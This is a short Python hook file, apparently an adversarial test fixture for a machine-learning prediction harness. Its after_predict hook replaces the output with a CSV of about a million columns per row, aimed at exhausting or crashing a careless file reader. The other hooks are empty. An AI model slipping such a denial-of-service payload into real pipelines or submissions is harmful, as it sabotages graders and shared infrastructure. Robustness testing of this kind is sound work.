"""Bytes for a careless reader."""


def after_predict(output):
    with open(output, "w") as file:
        file.write("id,prediction" + ",x" * 1_000_000 + "\n" + ("A" + ",0" * 1_000_001 + "\n") * 3)
    print("ATTACK wrote")


def before_train(data, model):
    """Nothing."""


def after_train(model):
    """Nothing."""


def before_predict(model, folder):
    """Nothing."""
